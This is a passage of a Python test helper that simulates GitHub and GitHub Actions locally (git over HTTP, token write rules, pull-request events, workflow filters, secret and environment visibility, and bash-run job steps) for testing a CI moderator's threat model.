"""A simulated GitHub for the CI moderator's tests (no tests here).

It encodes the parts of GitHub's behaviour that the CI moderator's design relies
on (docs/git.md, "Threat model"), and runs workflows for real: real git
repositories served over smart HTTP, real clones for checkouts, every ``run:``
line through bash.  What it encodes, as GitHub documents it (Actions, after the
pull_request_target change of 8 December 2025):

* **Which workflow file a run uses, and its ref**

  ============================  ===============================================  ======================
  event                         workflow file (and GITHUB_SHA)                   GITHUB_REF
  ============================  ===============================================  ======================
  ``push``                      the pushed commit's                              the pushed branch
  ``pull_request`` (a fork's)   the pull request's (GitHub: its merge commit;    ``refs/pull/N/merge``
                                here: its head, which holds the same workflows)
  ``pull_request_target``       the default branch's tip                         the default branch
  ``schedule``                  the default branch's tip                         the default branch
  ``workflow_dispatch``         the tip of the ref the dispatcher chose          that ref
  ============================  ===============================================  ======================

  A push made with a job's token (``github.token``) starts no run.  Filters:
  ``branches`` (for pull-request events: the base branch), ``paths`` (the files
  the push or the pull request changes; ``!`` excludes), ``types``.
* **Which secrets a job sees**: the repository's secrets, except in a run for a
  fork's ``pull_request`` (no secrets at all); an environment's secrets only in a
  job that declares ``environment:`` and whose run ref passes the environment's
  deployment-branch policy.  A job whose ref fails the policy fails before its
  first step; an environment that does not exist is created without protection.
* **Who can write**: the repository is public (anyone reads); a push needs a
  token with write access: a collaborator's, or a job's token whose
  ``permissions`` give ``contents: write`` (a fork's ``pull_request`` run: read
  only; no ``permissions:`` at all: the repository default, read, as for new
  repositories).  A fork is a repository of its own, written by its owner.
* **Pull requests**: opening one, or a push to its branch in the fork (seen by
  :meth:`SimGitHub.process`), makes GitHub copy the head commit into
  ``refs/pull/N/head`` of the upstream repository and fire ``pull_request`` and
  ``pull_request_target`` (``opened``, ``synchronize``).

How a job runs, step by step, in a folder of its own (``runs/RUN-JOB/``, with
its own HOME and an environment made from scratch):

* ``actions/checkout``: ``git init`` + ``git fetch`` over HTTP with the job's
  token, of every branch (``fetch-depth: 0``) and the ``ref:`` (default: the
  run's GITHUB_SHA), then ``git checkout -B BRANCH`` (a branch) or a detached
  checkout (a commit or another ref); with ``persist-credentials`` (the
  default) the token header stays in the clone's ``.git/config``.
* ``actions/setup-python``: puts a plain CPython first on PATH.
* the install step (a ``run:`` that calls ``pip install``): when ``.pbem/`` in the
  workspace is byte for byte what ``pbem git init`` wrote (``trusted_pbem``),
  the step is not run and the tests' own installed pbem goes first on PATH
  instead (no package index needed); otherwise the step runs FOR REAL in a new
  virtual environment, installing whatever the workspace's files say.
* every other ``run:``: ``bash -e`` with the workflow's, job's and step's
  ``env:``; ``${{ ... }}`` is replaced in ``run:``, ``env:`` and ``with:`` values
  from the contexts ``secrets``, ``github`` (token, ref, sha, event_name,
  repository, run_id, actor, head_ref, event.*), ``env`` and ``inputs``
  (a missing value is empty, as on GitHub).  Any other expression, ``if:``,
  ``needs:`` or action makes the simulator fail loudly rather than guess.

Not encoded: log masking of secrets (cosmetic: code that holds a secret can
print it encoded), concurrency groups (runs are sequential), runner images,
other permissions than ``contents``.  The runner's Python path carries the
tests' toy game as an installed game plugin (an entry point), as a club would
install a game of its own.
"""
from __future__ import annotations

import base64
import hashlib
import json
import os
import re
import secrets as token_source
import shutil
import subprocess
import sys
import threading
import zipfile
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Callable

import yaml

HERE = Path(__file__).resolve().parent
TEST_BIN = Path(sys.executable).parent          # the tests' virtual environment: pbem installed there
SYSTEM_PATH = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
ZERO = "0" * 40
STEP_TIMEOUT = 600                              # seconds; against a hang only
BOT = "github-actions[bot]"


class SimulatorError(AssertionError):
    """The simulator met something it does not encode, or a step hung."""


# --- git over HTTP, with GitHub's write rule -------------------------------------------------------------

@dataclass(frozen=True)
class Access:
    actor: str
    write: bool
    bot: bool = False           # a job's token: its pushes start no run


@dataclass(frozen=True)
class Push:
    actor: str
    bot: bool
    ref: str
    before: str
    after: str


def basic_header(token: str) -> str:
    return "AUTHORIZATION: basic " + base64.b64encode(f"x-access-token:{token}".encode()).decode("ascii")


def _refs(bare: Path) -> dict[str, str]:
    out = subprocess.run(["git", "-C", str(bare), "for-each-ref", "--format=%(refname) %(objectname)"],
                         capture_output=True, text=True, check=True).stdout
    return {ref: sha for ref, sha in (line.split(" ", 1) for line in out.splitlines() if line)}


class GitServer:
    """``git http-backend`` for one folder of bare repositories; pushes need a token with write access."""

    def __init__(self, project_root: Path) -> None:
        self.project_root = project_root
        self.tokens: dict[str, Access] = {}
        self.pushes: list[Push] = []
        self.denied: list[str] = []           # actors refused a push
        self._lock = threading.Lock()
        self._server: ThreadingHTTPServer | None = None
        self._thread: threading.Thread | None = None

    def url(self, name: str) -> str:
        assert self._server is not None
        host, port = self._server.server_address[:2]
        return f"http://{host}:{port}/{name}"

    def start(self) -> None:
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), _handler_for(self))
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()

    def stop(self) -> None:
        if self._server is not None and self._thread is not None:
            self._server.shutdown()
            self._server.server_close()
            self._thread.join(timeout=10)

    def take_pushes(self) -> list[Push]:
        with self._lock:
            taken, self.pushes = self.pushes, []
        return taken

    def access(self, header: str) -> Access | None:
        scheme, _, value = header.partition(" ")
        if scheme.lower() != "basic":
            return None
        try:
            _user, _, token = base64.b64decode(value).decode().partition(":")
        except ValueError:
            return None
        return self.tokens.get(token)


def _handler_for(server: GitServer) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: Any) -> None:
            pass

        def do_GET(self) -> None:
            self._serve()

        def do_POST(self) -> None:
            self._serve()

        def _reply(self, status: int, extra: tuple[tuple[str, str], ...] = ()) -> None:
            self.send_response(status)
            for name, value in extra:
                self.send_header(name, value)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def _body(self) -> bytes:
            if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
                data = b""
                while True:
                    size = int(self.rfile.readline().strip().split(b";")[0], 16)
                    if size == 0:
                        self.rfile.readline()
                        return data
                    data += self.rfile.read(size)
                    self.rfile.readline()
            return self.rfile.read(int(self.headers.get("Content-Length", "0") or 0))

        def _serve(self) -> None:
            path, _, query = self.path.partition("?")
            writing = path.endswith("/git-receive-pack") or "service=git-receive-pack" in query
            access = server.access(self.headers.get("Authorization", ""))
            if writing and access is None:
                server.denied.append("anonymous")
                self._reply(401, (("WWW-Authenticate", 'Basic realm="simulated GitHub"'),))
                return
            if writing and not (access and access.write):
                server.denied.append(access.actor if access else "?")
                self._reply(403)
                return
            body = self._body()
            repo = server.project_root / path.lstrip("/").split(".git/")[0]
            bare = repo.with_name(repo.name + ".git")
            before = _refs(bare) if writing and self.command == "POST" else {}
            env = {"PATH": os.environ["PATH"], "HOME": os.environ.get("HOME", "/"), "GIT_CONFIG_NOSYSTEM": "1",
                   "GIT_PROJECT_ROOT": str(server.project_root), "GIT_HTTP_EXPORT_ALL": "1",
                   "REQUEST_METHOD": self.command, "PATH_INFO": path, "QUERY_STRING": query,
                   "CONTENT_TYPE": self.headers.get("Content-Type", ""), "CONTENT_LENGTH": str(len(body)),
                   "REMOTE_USER": access.actor if access else "anonymous", "REMOTE_ADDR": "127.0.0.1"}
            if self.headers.get("Content-Encoding"):
                env["HTTP_CONTENT_ENCODING"] = self.headers["Content-Encoding"]
            if self.headers.get("Git-Protocol"):
                env["GIT_PROTOCOL"] = self.headers["Git-Protocol"]
            proc = subprocess.run(["git", "http-backend"], input=body, env=env, capture_output=True, check=False)
            if writing and self.command == "POST" and access is not None:
                after = _refs(bare)
                with server._lock:
                    for ref in sorted(set(before) | set(after)):
                        if before.get(ref) != after.get(ref):
                            server.pushes.append(Push(access.actor, access.bot, ref, before.get(ref, ZERO),
                                                      after.get(ref, ZERO)))
            head, _, content = proc.stdout.partition(b"\r\n\r\n")
            status, headers = 200, []
            for line in head.decode("latin-1").split("\r\n"):
                name, _, value = line.partition(":")
                if name.lower() == "status":
                    status = int(value.strip().split()[0])
                elif name:
                    headers.append((name, value.strip()))
            self.send_response(status)
            for name, value in headers:
                self.send_header(name, value)
            self.send_header("Content-Length", str(len(content)))
            self.end_headers()
            self.wfile.write(content)

    return Handler


# --- workflows: filters and expressions ----------------------------------------------------------------------

def glob_regex(pattern: str) -> re.Pattern[str]:
    """GitHub's filter patterns: ``**`` any characters, ``*`` any but ``/``, ``?`` one but ``/``."""
    out, i = "", 0
    while i < len(pattern):
        if pattern.startswith("**", i):
            out, i = out + ".*", i + 2
        elif pattern[i] == "*":
            out, i = out + "[^/]*", i + 1
        elif pattern[i] == "?":
            out, i = out + "[^/]", i + 1
        elif pattern[i] in "[]+":
            raise SimulatorError(f"the simulator does not encode the filter pattern {pattern!r}")
        else:
            out, i = out + re.escape(pattern[i]), i + 1
    return re.compile(out + r"\Z")


def filter_matches(patterns: list[str], name: str) -> bool:
    """Patterns in order; a later ``!pattern`` takes a name out again."""
    matched = False
    for pattern in patterns:
        if pattern.startswith("!"):
            if glob_regex(pattern[1:]).match(name):
                matched = False
        elif glob_regex(pattern).match(name):
            matched = True
    return matched


def triggers_of(data: dict[str, Any]) -> dict[str, dict[str, Any]]:
    on = data.get("on", data.get(True))
    if isinstance(on, str):
        return {on: {}}
    if isinstance(on, list):
        return {str(t): {} for t in on}
    if isinstance(on, dict):
        return {str(t): (v if isinstance(v, dict) else {}) for t, v in on.items()}
    return {}


EXPR = re.compile(r"\$\{\{(.*?)\}\}", re.DOTALL)
PATH_EXPR = re.compile(r"^[A-Za-z_][A-Za-z0-9_-]*(?:\.[A-Za-z0-9_-]+|\[\s*'[^']*'\s*\])*$")


def _lookup(contexts: dict[str, Any], expression: str) -> str:
    text = expression.strip()
    if not PATH_EXPR.match(text):
        raise SimulatorError(f"the simulator evaluates only context paths, not ${{{{ {text} }}}}")
    parts = re.findall(r"[A-Za-z0-9_-]+|\[\s*'[^']*'\s*\]", text)
    value: Any = contexts
    for index, part in enumerate(parts):
        key = part.strip("[]' ") if part.startswith("[") else part
        if not isinstance(value, dict):
            return ""
        if index == 1 and parts[0] == "secrets":           # secret names are case-insensitive
            value = {k.upper(): v for k, v in value.items()}.get(key.upper())
        else:
            value = value.get(key)
        if value is None:
            return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return value if isinstance(value, str) else json.dumps(value)


def substitute(text: str, contexts: dict[str, Any]) -> str:
    return EXPR.sub(lambda m: _lookup(contexts, m.group(1)), text)


# --- the simulated GitHub --------------------------------------------------------------------------------------

@dataclass
class Environment:
    name: str
    branches: list[str] | None            # deployment branch policy: branch patterns; None: any ref
    secrets: dict[str, str] = field(default_factory=dict)

    def allows(self, ref: str) -> bool:
        if self.branches is None:
            return True
        if not ref.startswith("refs/heads/"):
            return False
        return any(glob_regex(pattern).match(ref[len("refs/heads/"):]) for pattern in self.branches)


@dataclass
class PullRequest:
    number: int
    author: str
    fork: Path
    branch: str
    base: str
    head_sha: str
    title: str = ""


@dataclass
class StepResult:
    name: str
    status: str             # success | failure | skipped
    output: str = ""
    note: str = ""          # what the simulator did instead of running the step, if anything


@dataclass
class JobResult:
    workflow: str
    job: str
    status: str             # success | failure | rejected
    reason: str = ""
    secrets_seen: tuple[str, ...] = ()
    folder: Path | None = None
    steps: list[StepResult] = field(default_factory=list)

    @property
    def output(self) -> str:
        return "".join(step.output for step in self.steps) + self.reason

    def step(self, words: str) -> StepResult:
        found = [s for s in self.steps if words in s.name]
        assert len(found) == 1, f"no single step named like {words!r} in {[s.name for s in self.steps]}"
        return found[0]


@dataclass
class Run:
    id: int
    event: str
    action: str
    workflow: str           # repository path of the workflow file
    ref: str
    sha: str
    jobs: list[JobResult] = field(default_factory=list)

    @property
    def output(self) -> str:
        return "".join(job.output for job in self.jobs)


@dataclass
class _Event:
    name: str
    action: str = ""
    push: Push | None = None
    pull: PullRequest | None = None
    ref: str = ""


class SimGitHub:
    """One repository (``OWNER/NAME``), its forks, pull requests, environments, secrets and workflow runs."""

    def __init__(self, root: Path, full_name: str = "club/game", default_branch: str = "main",
                 owner: str = "moderator") -> None:
        self.root = root
        self.full_name = full_name
        self.default_branch = default_branch
        self.owner = owner
        self.repos = root / "github"
        self.upstream = self.repos / f"{full_name}.git"
        self.runs_dir = root / "runs"
        self.repo_secrets: dict[str, str] = {}
        self.environments: dict[str, Environment] = {}
        self.pulls: dict[int, PullRequest] = {}
        self.runs: list[Run] = []
        self.trusted_pbem: dict[str, bytes] | None = None    # .pbem/ as `pbem git init` wrote it
        self.python_path = [str(HERE), str(self._toy_plugin())]
        self.new_venv: Callable[[Path], None] = make_venv     # a new virtual environment at a path (tests: a copy)
        self._queue: list[_Event] = []
        self.server = GitServer(self.repos)
        self._git(root, "init", "-q", "--bare", "-b", default_branch, self.upstream)
        self._git(self.upstream, "config", "uploadpack.allowAnySHA1InWant", "true")
        self._git(self.upstream, "config", "http.receivepack", "true")
        self.owner_token = self.add_collaborator(owner)

    # --- set-up --------------------------------------------------------------------------------------------
    def __enter__(self) -> SimGitHub:
        self.server.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.stop()

    @property
    def url(self) -> str:
        return self.server.url(f"{self.full_name}.git")

    def add_collaborator(self, name: str) -> str:
        """A person with write access; returns their token."""
        token = "ghp_" + token_source.token_hex(16)
        self.server.tokens[token] = Access(name, write=True)
        return token

    def add_environment(self, name: str, branches: list[str] | None, secrets: dict[str, str]) -> None:
        self.environments[name] = Environment(name, branches, dict(secrets))

    def clone(self, target: Path, token: str | None = None, name: str = "tester") -> Path:
        """A person's clone of the upstream repository (with their token kept in its config, if any)."""
        config = ["-c", f"http.extraheader={basic_header(token)}"] if token else []
        self._git(self.root, *config, "clone", "-q", self.url, target)
        if token:
            self._git(target, "config", "http.extraheader", basic_header(token))
        self._git(target, "config", "user.name", name)
        self._git(target, "config", "user.email", f"{name}@test")
        return target

    def fork(self, owner: str) -> Path:
        """``owner``'s fork: a repository of their own (a bare copy of the upstream's branches)."""
        fork = self.root / "forks" / f"{owner}.git"
        self._git(self.root, "clone", "-q", "--bare", self.upstream, fork)
        return fork

    def open_pull_request(self, author: str, fork: Path, branch: str, title: str = "moves") -> int:
        number = max(self.pulls, default=0) + 1
        sha = self._git(fork, "rev-parse", f"refs/heads/{branch}").stdout.strip()
        pull = PullRequest(number, author, fork, branch, self.default_branch, sha, title)
        self.pulls[number] = pull
        self._copy_head(pull)
        self._queue.append(_Event("pull_request", "opened", pull=pull))
        return number

    def schedule(self) -> None:
        self._queue.append(_Event("schedule"))

    def dispatch(self, ref: str | None = None) -> None:
        self._queue.append(_Event("workflow_dispatch", ref=f"refs/heads/{ref or self.default_branch}"))

    def process(self) -> list[Run]:
        """Deliver every pending event (pushes seen by the server, pushes to pull requests' branches in the
        forks, scheduled and dispatched runs), in order, until none is left; returns the runs made."""
        made: list[Run] = []
        while True:
            self._notice_pull_request_pushes()
            events = self._queue + [_Event("push", push=p) for p in self.server.take_pushes()]
            self._queue = []
            if not events:
                return made
            for event in events:
                made += self._deliver(event)

    # --- events --------------------------------------------------------------------------------------------
    def _notice_pull_request_pushes(self) -> None:
        for pull in self.pulls.values():
            sha = self._git(pull.fork, "rev-parse", f"refs/heads/{pull.branch}").stdout.strip()
            if sha != pull.head_sha:
                pull.head_sha = sha
                self._copy_head(pull)
                self._queue.append(_Event("pull_request", "synchronize", pull=pull))

    def _copy_head(self, pull: PullRequest) -> None:
        self._git(self.upstream, "fetch", "-q", pull.fork, f"+refs/heads/{pull.branch}:refs/pull/{pull.number}/head")

    def _deliver(self, event: _Event) -> list[Run]:
        tip = self._git(self.upstream, "rev-parse", f"refs/heads/{self.default_branch}").stdout.strip()
        default_ref = f"refs/heads/{self.default_branch}"
        if event.name == "push":
            push = event.push
            assert push is not None
            if push.bot or not push.ref.startswith("refs/heads/") or push.after == ZERO:
                return []
            changed = self._changed(push.before, push.after)
            return self._start("push", "", push.after, push.ref, changed, push.ref[len("refs/heads/"):],
                               secrets_allowed=True, actor=push.actor)
        if event.name == "pull_request":
            pull = event.pull
            assert pull is not None
            changed = self._changed(f"{default_ref}...refs/pull/{pull.number}/head", None)
            fork_name = f"{pull.author}/{self.full_name.split('/')[1]}"
            payload = {"action": event.action, "number": pull.number,
                       "pull_request": {"number": pull.number, "title": pull.title,
                                        "head": {"ref": pull.branch, "sha": pull.head_sha,
                                                 "repo": {"full_name": fork_name}},
                                        "base": {"ref": pull.base}}}
            runs = self._start("pull_request_target", event.action, tip, default_ref, changed, pull.base,
                               secrets_allowed=True, actor=pull.author, payload=payload, head_ref=pull.branch)
            runs += self._start("pull_request", event.action, pull.head_sha, f"refs/pull/{pull.number}/merge",
                                changed, pull.base, secrets_allowed=False, actor=pull.author, payload=payload,
                                head_ref=pull.branch)
            return runs
        if event.name == "schedule":
            return self._start("schedule", "", tip, default_ref, None, None, secrets_allowed=True, actor=BOT)
        sha = self._git(self.upstream, "rev-parse", event.ref).stdout.strip()
        return self._start("workflow_dispatch", "", sha, event.ref, None, None, secrets_allowed=True,
                           actor=self.owner)

    def _changed(self, spec: str, after: str | None) -> list[str]:
        if after is None:
            args = ["diff", "--name-only", spec]
        elif spec == ZERO:
            args = ["ls-tree", "-r", "--name-only", after]
        else:
            args = ["diff", "--name-only", spec, after]
        return self._git(self.upstream, *args).stdout.splitlines()

    def _workflows(self, sha: str) -> list[tuple[str, dict[str, Any]]]:
        names = self._git(self.upstream, "ls-tree", "--name-only", f"{sha}:.github/workflows", check=False)
        found = []
        for name in sorted(names.stdout.splitlines()) if names.returncode == 0 else []:
            if name.endswith((".yml", ".yaml")):
                text = self._git(self.upstream, "show", f"{sha}:.github/workflows/{name}").stdout
                data = yaml.safe_load(text)
                if isinstance(data, dict):
                    found.append((f".github/workflows/{name}", data))
        return found

    def _start(self, event: str, action: str, sha: str, ref: str, changed: list[str] | None, branch: str | None,
               secrets_allowed: bool, actor: str, payload: dict[str, Any] | None = None,
               head_ref: str = "") -> list[Run]:
        runs = []
        for rel, data in self._workflows(sha):
            filters = triggers_of(data).get(event)
            if filters is None or not self._passes(event, action, filters, changed, branch):
                continue
            run = Run(len(self.runs) + 1, event, action, rel, ref, sha)
            self.runs.append(run)
            runs.append(run)
            github = {"event_name": event, "ref": ref, "sha": sha, "repository": self.full_name,
                      "run_id": str(run.id), "actor": actor, "head_ref": head_ref, "event": payload or {},
                      "base_ref": branch if event.startswith("pull_request") else ""}
            jobs = data.get("jobs")
            for job_id, job in (jobs.items() if isinstance(jobs, dict) else []):
                run.jobs.append(self._run_job(run, rel, data, str(job_id), job, github, secrets_allowed))
        return runs

    @staticmethod
    def _passes(event: str, action: str, filters: dict[str, Any], changed: list[str] | None,
                branch: str | None) -> bool:
        if event in ("schedule", "workflow_dispatch"):
            return True
        unknown = set(filters) - {"branches", "paths", "types"}
        if unknown:
            raise SimulatorError(f"the simulator does not encode the {event} filters {sorted(unknown)}")
        if "types" in filters and action not in filters["types"]:
            return False
        if event != "push" and "types" not in filters and action not in ("opened", "synchronize", "reopened"):
            return False
        if "branches" in filters and not filter_matches([str(b) for b in filters["branches"]], branch or ""):
            return False
        if "paths" in filters and not any(filter_matches([str(p) for p in filters["paths"]], f)
                                          for f in changed or []):
            return False
        return True

    # --- jobs ------------------------------------------------------------------------------------------------
    def _run_job(self, run: Run, rel: str, data: dict[str, Any], job_id: str, job: dict[str, Any],
                 github: dict[str, Any], secrets_allowed: bool) -> JobResult:
        for key in ("if", "needs", "strategy", "container", "services", "uses"):
            if key in job:
                raise SimulatorError(f"{rel}: the simulator does not encode jobs.{job_id}.{key}")
        result = JobResult(rel, job_id, "success")
        visible: dict[str, str] = dict(self.repo_secrets) if secrets_allowed else {}
        env_value = job.get("environment")
        env_name = env_value.get("name") if isinstance(env_value, dict) else env_value
        if env_name is not None:
            env_name = str(env_name)
            if "${{" in env_name:
                raise SimulatorError(f"{rel}: the simulator does not evaluate an environment given by an expression")
            environment = self.environments.setdefault(env_name, Environment(env_name, None))
            if not environment.allows(run.ref):
                result.status = "rejected"
                shown = run.ref.removeprefix("refs/heads/")
                result.reason = (f'Branch "{shown}" is not allowed to deploy to {env_name} due to environment '
                                 "protection rules.\n")
                return result
            if secrets_allowed:
                visible.update(environment.secrets)
        result.secrets_seen = tuple(sorted(visible))
        token = "ghs_" + token_source.token_hex(16)
        can_write = secrets_allowed and self._contents_write(job.get("permissions", data.get("permissions")))
        self.server.tokens[token] = Access(BOT, write=can_write, bot=True)
        folder = self.runs_dir / f"{run.id}-{re.sub(r'[^A-Za-z0-9_-]', '_', job_id)}"
        result.folder = folder
        try:
            self._steps(run, rel, data, job, github, visible, token, folder, result)
        finally:
            del self.server.tokens[token]
        return result

    @staticmethod
    def _contents_write(permissions: Any) -> bool:
        if permissions is None:
            return False                        # the repository default for new repositories: read
        if isinstance(permissions, str):
            return permissions == "write-all"
        return isinstance(permissions, dict) and permissions.get("contents") == "write"

    def _steps(self, run: Run, rel: str, data: dict[str, Any], job: dict[str, Any], github: dict[str, Any],
               visible: dict[str, str], token: str, folder: Path, result: JobResult) -> None:
        workspace, home, tmp = folder / "workspace", folder / "home", folder / "tmp"
        for path in (workspace, home, tmp):
            path.mkdir(parents=True)
        path_dirs: list[str] = []
        contexts: dict[str, Any] = {"secrets": visible, "github": {**github, "token": token,
                                                                   "workspace": str(workspace)},
                                    "inputs": {}, "env": {}}
        base_env = {"HOME": str(home), "TMPDIR": str(tmp), "RUNNER_TEMP": str(tmp), "LANG": "C.UTF-8",
                    "GIT_CONFIG_NOSYSTEM": "1", "PIP_CONFIG_FILE": os.devnull, "PIP_DISABLE_PIP_VERSION_CHECK": "1",
                    "PIP_NO_INDEX": "1", "PYTHONPATH": os.pathsep.join(self.python_path), "CI": "true",
                    "GITHUB_ACTIONS": "true", "GITHUB_WORKSPACE": str(workspace), "GITHUB_REF": run.ref,
                    "GITHUB_SHA": run.sha, "GITHUB_EVENT_NAME": run.event, "GITHUB_REPOSITORY": self.full_name,
                    "GITHUB_RUN_ID": str(run.id), "GITHUB_ACTOR": github["actor"]}
        env_layers: dict[str, str] = {}
        for layer in (data.get("env"), job.get("env")):
            for key, value in (layer or {}).items():
                env_layers[str(key)] = substitute(str(value), {**contexts, "env": env_layers})
        failed = False
        for index, step in enumerate(job.get("steps") or []):
            name = str(step.get("name") or step.get("uses") or step.get("run", "")[:60])
            if failed:
                result.steps.append(StepResult(name, "skipped"))
                continue
            for key in step:
                if key not in ("name", "uses", "with", "run", "env", "id"):
                    raise SimulatorError(f"{rel}: the simulator does not encode steps[{index}].{key}")
            contexts["env"] = env_layers
            step_env = {**env_layers, **{str(k): substitute(str(v), contexts)
                                         for k, v in (step.get("env") or {}).items()}}
            inputs = {str(k): substitute(str(v), {**contexts, "env": step_env})
                      for k, v in (step.get("with") or {}).items()}
            if "uses" in step:
                outcome = self._action(str(step["uses"]), inputs, run, token, workspace, path_dirs, name)
            else:
                script = substitute(str(step["run"]), {**contexts, "env": step_env})
                env = {**base_env, **step_env, "PATH": os.pathsep.join([*path_dirs, SYSTEM_PATH])}
                if re.search(r"\bpip install\b", script) and self._pbem_is_trusted(workspace):
                    path_dirs.insert(0, str(TEST_BIN))
                    outcome = StepResult(name, "success", note="verified .pbem/: the tests' pbem put on PATH")
                else:
                    if re.search(r"\bpip install\b", script):
                        venv = folder / "python"
                        self.new_venv(venv)
                        path_dirs.insert(0, str(venv / "bin"))
                        env["PATH"] = os.pathsep.join([*path_dirs, SYSTEM_PATH])
                    outcome = self._bash(name, script, env, workspace, folder / f"step-{index}.sh")
            result.steps.append(outcome)
            if outcome.status != "success":
                failed = True
                result.status = "failure"

    def _pbem_is_trusted(self, workspace: Path) -> bool:
        if self.trusted_pbem is None:
            return False
        return _snapshot(workspace / ".pbem") == self.trusted_pbem

    @staticmethod
    def _bash(name: str, script: str, env: dict[str, str], cwd: Path, path: Path) -> StepResult:
        path.write_text(script)
        try:
            proc = subprocess.run(["bash", "-e", str(path)], cwd=cwd, env=env, capture_output=True, text=True,
                                  timeout=STEP_TIMEOUT, check=False)
        except subprocess.TimeoutExpired:
            raise SimulatorError(f"the step {name!r} did not finish within {STEP_TIMEOUT} s") from None
        return StepResult(name, "success" if proc.returncode == 0 else "failure", proc.stdout + proc.stderr)

    def _action(self, uses: str, inputs: dict[str, str], run: Run, token: str, workspace: Path,
                path_dirs: list[str], name: str) -> StepResult:
        action = uses.split("@", 1)[0]
        if action == "actions/checkout":
            return self._checkout(inputs, run, token, workspace, name)
        if action == "actions/setup-python":
            pybin = workspace.parent / "setup-python"
            pybin.mkdir()
            for alias in ("python", "python3"):
                (pybin / alias).symlink_to(getattr(sys, "_base_executable", sys.executable))
            path_dirs.insert(0, str(pybin))
            return StepResult(name, "success", note="a plain CPython first on PATH")
        raise SimulatorError(f"the simulator does not encode the action {uses}")

    def _checkout(self, inputs: dict[str, str], run: Run, token: str, workspace: Path, name: str) -> StepResult:
        auth = inputs.get("token") or token
        header = ["-c", f"http.extraheader={basic_header(auth)}"]
        ref = inputs.get("ref") or run.sha
        log = []

        def git(*args: Any, auth_needed: bool = False) -> None:
            proc = self._git(workspace, *(header if auth_needed else []), *args, check=False)
            log.append(proc.stdout + proc.stderr)
            if proc.returncode != 0:
                raise _CheckoutFailed(f"git {args[0]} failed: {proc.stderr.strip()}")

        try:
            git("init", "-q")
            git("remote", "add", "origin", self.url)
            depth = [] if str(inputs.get("fetch-depth", "1")) == "0" else [f"--depth={inputs.get('fetch-depth', '1')}"]
            git("fetch", "-q", *depth, "origin", "+refs/heads/*:refs/remotes/origin/*", "+refs/tags/*:refs/tags/*",
                auth_needed=True)
            branch = ref.removeprefix("refs/heads/")
            if self._git(workspace, "rev-parse", "-q", "--verify", f"refs/remotes/origin/{branch}",
                         check=False).returncode == 0 and not re.fullmatch(r"[0-9a-f]{40}", ref):
                git("checkout", "-q", "-B", branch, f"refs/remotes/origin/{branch}")
            else:
                git("fetch", "-q", *depth, "origin", ref, auth_needed=True)
                git("checkout", "-q", "--detach", "FETCH_HEAD")
            if str(inputs.get("persist-credentials", "true")).lower() == "true":
                git("config", "--local", "http.extraheader", basic_header(auth))
        except _CheckoutFailed as exc:
            return StepResult(name, "failure", "".join(log) + str(exc) + "\n")
        return StepResult(name, "success", "".join(log), note=f"checked out {ref}")

    # --- helpers -----------------------------------------------------------------------------------------------
    @staticmethod
    def _git(cwd: Path, *args: Any, check: bool = True) -> subprocess.CompletedProcess[str]:
        env = {"PATH": SYSTEM_PATH, "HOME": "/nonexistent", "GIT_CONFIG_NOSYSTEM": "1", "GIT_TERMINAL_PROMPT": "0",
               "LANG": "C.UTF-8"}
        proc = subprocess.run(["git", "-c", "user.name=GitHub", "-c", "user.email=noreply@github.com",
                               *[str(a) for a in args]], cwd=cwd, capture_output=True, text=True, env=env,
                              check=False)
        if check and proc.returncode != 0:
            raise SimulatorError(f"git {' '.join(str(a) for a in args)} failed: {proc.stderr}")
        return proc

    def _toy_plugin(self) -> Path:
        """The tests' toy game as an installed game plugin: an entry point in the group pbem.games."""
        folder = self.root / "plugins"
        info = folder / "pbem_toy_plugin-1.0.dist-info"
        info.mkdir(parents=True)
        (info / "METADATA").write_text("Metadata-Version: 2.1\nName: pbem-toy-plugin\nVersion: 1.0\n")
        (info / "entry_points.txt").write_text("[pbem.games]\ntoy = toygame:ToyGame\n")
        return folder


class _CheckoutFailed(Exception):
    pass


def _snapshot(folder: Path) -> dict[str, bytes]:
    if not folder.is_dir():
        return {}
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


def make_venv(target: Path) -> None:
    """A new virtual environment at ``target``, as ``python -m venv`` makes it (with pip)."""
    subprocess.run([sys.executable, "-m", "venv", str(target)], check=True, capture_output=True)


def venv_with_the_tests_pip(target: Path) -> None:
    """A new virtual environment at ``target`` with only pip in it: ``python -m venv --without-pip``, then the
    pip of the tests' own environment (in .venv the lock's, requirements/pip.txt; `make test-latest`: the
    newest) as pip installed it there: every file its ``RECORD`` lists under site-packages, each checked
    against its hash there, compiled modules and their source times kept, so that the copy's pip imports its
    compiled modules.  ``python -m venv`` with pip (ensurepip) costs about 4 CPU-s, most of it pip installing
    and compiling its own bundled (older) copy; this costs a tenth."""
    import importlib.metadata
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(target)], check=True, capture_output=True)
    dist = importlib.metadata.distribution("pip")
    site = Path(str(dist.locate_file(""))).resolve()
    (site_target,) = target.glob("lib/python*/site-packages")
    copied = 0
    for file in dist.files or ():
        if file.parts[0] == "..":                     # bin/pip and friends name the tests' python: not copied
            continue
        source = site / file
        if file.hash is not None:
            digest = base64.urlsafe_b64encode(hashlib.sha256(source.read_bytes()).digest()).rstrip(b"=").decode()
            assert (file.hash.mode, digest) == ("sha256", file.hash.value), f"{source} differs from pip's RECORD"
        dest = site_target / file
        dest.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(source, dest)
        copied += 1
    assert copied > 100 and (site_target / "pip" / "__main__.py").is_file()


def _pristine_venv(folder: Path) -> None:
    venv_with_the_tests_pip(folder / "venv")


def venv_copier(config: Any, factory: Any) -> Callable[[Path], None]:
    """``new_venv`` for a test: a venv with only pip (``venv_with_the_tests_pip``), made once per test
    session (``session_cache``) when first asked for, and copied.  A copy is a new virtual environment: its
    ``bin/python`` is the same link to the base interpreter, which finds ``pyvenv.cfg`` beside it and so takes
    the copy as its prefix (pip installs into the copy, scripts it writes name the copy's python); only
    ``activate`` still names the first folder, and nothing here runs it (``python -m pip``)."""
    def copy(target: Path) -> None:
        import session_cache
